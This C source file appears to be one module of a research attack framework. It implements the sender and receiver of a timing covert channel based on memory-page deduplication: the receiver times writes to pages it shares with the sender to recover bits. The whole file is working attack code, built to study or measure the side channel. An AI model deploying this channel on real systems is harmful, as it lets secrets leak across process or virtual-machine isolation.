// SPDX-License-Identifier: GPL-2.0-only
/*
 * A covert channel: time is cut into slots, and a slot carries a bit a page. Where the bit is 1, the sender's memory
 * holds the page that both know; the receiver's holds all of them. Late in the slot the receiver writes to each of its
 * pages: one that was merged takes longer. Every slot has pages at fresh addresses.
 *
 *	send KEY SLOT_US PAGES SLOTS START SECRET	the message is drawn from SECRET, which only the sender has
 *	receive KEY SLOT_US PAGES SLOTS START
 *
 * The first slot is known to both (every other bit is 1): by it the receiver finds what is long.
 */
#include "attack.h"

#include <stdlib.h>
#include <string.h>

#define LISTEN_EIGHTHS 7	/* of a slot, after which the receiver writes */

struct channel {
	uint64_t key, slot_ns;
	uint32_t pages, slots;	/* slots with a message */
	uint64_t start;
};

static struct channel channel_of(const struct words *words)
{
	return (struct channel){ number(words, 1), number(words, 2) * 1000, number(words, 3), number(words, 4),
				 number(words, 5) };
}

static bool known_bit(uint32_t page)
{
	return page & 1;
}

static uint64_t key_of(const struct channel *channel, uint32_t slot, uint32_t page)
{
	return channel->key + (uint64_t)slot * channel->pages + page;
}

static void send_slot(const struct channel *channel, uint32_t slot, const uint8_t *bits, struct area *area)
{
	uint32_t ones = 0;

	for (uint32_t i = 0; i < channel->pages; i++)
		ones += bits[i];
	if (!ones)
		return;
	*area = map_area(ones);
	for (uint32_t i = 0, at = 0; i < channel->pages; i++)
		if (bits[i])
			fill_page(page_of(area, at++), KIND_FILLED, key_of(channel, slot, i));
	register_area(area);
}

static void send_message(const struct channel *channel, uint64_t secret)
{
	uint32_t total = channel->pages * channel->slots;
	uint8_t *known = private_memory(channel->pages), *bits = private_memory(total);
	struct area area = { 0 };

	draw_bits(secret, bits, total);
	for (uint32_t i = 0; i < channel->pages; i++)
		known[i] = known_bit(i);
	for (uint32_t slot = 0; slot <= channel->slots; slot++) {
		sleep_until(channel->start + slot * channel->slot_ns);
		unmap_area(&area);
		send_slot(channel, slot, slot ? bits + (slot - 1) * channel->pages : known, &area);
	}
	sleep_until(channel->start + (channel->slots + 1) * channel->slot_ns);
	unmap_area(&area);
	say_bits("sent", bits, total);
}

static uint64_t median(const uint64_t *took, uint32_t pages, bool bit)
{
	uint64_t *chosen = private_memory(pages * sizeof(*chosen));
	uint32_t count = 0;

	for (uint32_t i = 0; i < pages; i++)
		if (known_bit(i) == bit)
			chosen[count++] = took[i];
	qsort(chosen, count, sizeof(*chosen), by_value);
	return chosen[count / 2];
}

static void listen_to_slot(const struct channel *channel, uint32_t slot, uint64_t *took)
{
	uint64_t begin = channel->start + slot * channel->slot_ns;
	struct area area;

	sleep_until(begin);
	area = map_area(channel->pages);
	for (uint32_t i = 0; i < channel->pages; i++)
		fill_page(page_of(&area, i), KIND_FILLED, key_of(channel, slot, i));
	register_area(&area);
	sleep_until(begin + channel->slot_ns * LISTEN_EIGHTHS / 8);
	for (uint32_t i = 0; i < channel->pages; i++)
		took[i] = time_write(page_of(&area, i));
	unmap_area(&area);
}

/* Bits by what is nearer to what the known slot taught; and what each page took, for whoever finds more in it. */
static void receive_message(const struct channel *channel)
{
	uint32_t total = channel->pages * channel->slots;
	uint64_t *known = private_memory(channel->pages * sizeof(*known)), *took = private_memory(total * sizeof(*took));
	uint8_t *bits = private_memory(total);
	uint64_t zero, one, middle;

	listen_to_slot(channel, 0, known);
	zero = median(known, channel->pages, false);
	one = median(known, channel->pages, true);
	middle = (zero + one) / 2;
	for (uint32_t slot = 1; slot <= channel->slots; slot++)
		listen_to_slot(channel, slot, took + (slot - 1) * channel->pages);
	for (uint32_t i = 0; i < total; i++)
		bits[i] = one >= zero ? took[i] > middle : took[i] < middle;
	say_bits("received", bits, total);
	say_figures("ticks", took, total);
}

static void obey(const struct words *words)
{
	struct channel channel = channel_of(words);

	if (!strcmp(words->at[0], "send"))
		send_message(&channel, number(words, 6));
	else if (!strcmp(words->at[0], "receive"))
		receive_message(&channel);
	else
		die("transmit does not know %s", words->at[0]);
}

void transmit(void)
{
	serve(obey);
}
